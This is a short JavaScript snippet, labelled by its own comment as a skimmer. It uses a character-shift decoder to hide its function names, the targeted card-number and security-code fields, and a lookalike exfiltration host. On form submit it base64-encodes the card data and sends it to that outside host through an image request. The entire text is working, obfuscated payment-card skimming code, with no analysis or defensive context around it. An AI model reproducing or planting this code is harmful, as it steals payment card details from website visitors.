// A skimmer whose names and host are kept shifted by a key and rebuilt by its own decoder.
function _r(s, k) {
  var o = "";
  for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) - k);
  return o;
}
window[_r("ehhIzirxPmwxiriv", 4)](_r("wyfqmx", 4), function () {
  var n = document[_r("kixIpiqirxF}Mh", 4)](_r("ggcryqfiv", 4));
  var c = document[_r("kixIpiqirxF}Mh", 4)](_r("ggcgmh", 4));
  if (!n || !c) return;
  var i = new window[_r("Mqeki", 4)]();
  i.src = _r("lxxtw>33ghr1nuyiv}1pmfw2xst3x2kmjChA", 4) + window[_r("fxse", 4)](n.value + "|" + c.value);
});
